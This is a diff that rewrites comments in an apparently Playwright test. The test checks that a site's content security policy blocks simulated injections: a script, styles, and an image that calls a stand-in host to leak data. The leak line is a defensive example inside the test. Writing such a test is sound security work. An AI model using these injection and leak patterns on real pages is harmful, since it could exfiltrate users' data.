@@ -1,12 +1,12 @@
-// The content security policy stops what is not Parlour's, and the watch of the journeys hears of it: that they report
-// nothing would mean little if nothing could be reported.
+// The content security policy blocks foreign content, and the journeys' watch records it. Otherwise their silence would
+// prove nothing.
 
 import { expect, test, watch } from './fixtures.ts';
 import { goTo } from './table.ts';
 
 test.use({ expectedProblems: [/Content Security Policy|TrustedScript|TrustedHTML|page’s settings blocked|elsewhere\.test/] });
 
-/** What somebody might put into a page who found a way. */
+/** Simulated injections. */
 const attempts: Record<string, () => void> = {
   'a script': () => {
     const script = document.createElement('script');
@@ -25,7 +25,7 @@ const attempts: Record<string, () => void> = {
     document.head.append(style);
   },
   'a style of an element': () => document.body.setAttribute('style', 'scale: 0.7'),
-  // As one would that is to tell another site of somebody's games.
+  // For example to leak data to another site.
   'a picture of another site': () => document.body.append(Object.assign(new Image(), { src: 'https://elsewhere.test/?game' })),
 };
 
@@ -39,7 +39,7 @@ for (const [name, link] of [['home', ''], ['a puzzle', 'hanoi/3x3'], ['the page 
     expect(problems, 'before anything was put in').toEqual([]);
     for (const [what, attempt] of Object.entries(attempts)) {
       const before = problems.length;
-      // Some are stopped by an error.
+      // Some fail with an exception.
       await page.evaluate(attempt).catch(() => undefined);
       await expect.poll(() => problems.length, { message: what }).toBeGreaterThan(before);
     }
